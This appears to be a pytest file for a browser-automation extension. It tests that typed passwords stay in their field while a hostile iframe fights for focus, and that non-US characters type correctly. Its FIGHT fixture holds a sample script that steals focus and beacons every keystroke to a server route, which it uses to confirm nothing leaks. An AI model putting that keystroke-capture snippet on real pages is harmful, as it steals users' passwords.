"""What goes into a password field of the user's own browser, with its debugger and without, while a frame of another
site fights for the focus; and characters that are on no US keyboard."""

from __future__ import annotations

from typing import Any

import pytest

from tests.extension.driver import PairedBrowser, paired_browser

__all__ = ["paired_browser"]


@pytest.fixture(params=[True, False], ids=["trusted", "untrusted"])
def oryn(paired_browser: PairedBrowser, run: Any, request: pytest.FixtureRequest) -> PairedBrowser:
    """With trusted input, and with events that the scanner dispatches."""
    run(paired_browser.trust(request.param))
    return paired_browser


FIGHT = """<input id=got><script>setInterval(() => got.focus(), 0);
for (const kind of ['keydown', 'keypress', 'beforeinput', 'input'])
  addEventListener(kind, (event) => navigator.sendBeacon('/got?' + (event.data ?? event.key)), true);</script>"""


@pytest.mark.slow
async def test_a_password_goes_where_it_was_meant(oryn: PairedBrowser) -> None:
    got: list[str] = []
    oryn.pages["/got"] = lambda asked: got.append(asked.path.partition("?")[2]) or ""
    oryn.pages["/frame"] = FIGHT
    await oryn.show(
        f"<input type=password id=p aria-label=Pass><iframe src={oryn.pages.url('/frame', 'localhost')}></iframe>"
    )
    for number in range(3):
        await oryn.ok(f'type Pass "correct-horse-{number}"')
        assert await oryn.value("p.value") == f"correct-horse-{number}"
    assert got == []


@pytest.mark.parametrize("text", ["é", "Ж", "字", "😀", "👩‍👩‍👧"])
async def test_characters_of_other_keyboards(oryn: PairedBrowser, text: str) -> None:
    await oryn.show(
        "<input id=i aria-label=Name><script>window.log = []; for (const kind of ['keydown', 'input', 'keyup'])"
        " i.addEventListener(kind, (e) => log.push(kind + (e.data || '')))</script>"
    )
    await oryn.ok(f'type Name "{text}"')
    assert await oryn.value("log.join(' ')") == f"keydown input{text} keyup"
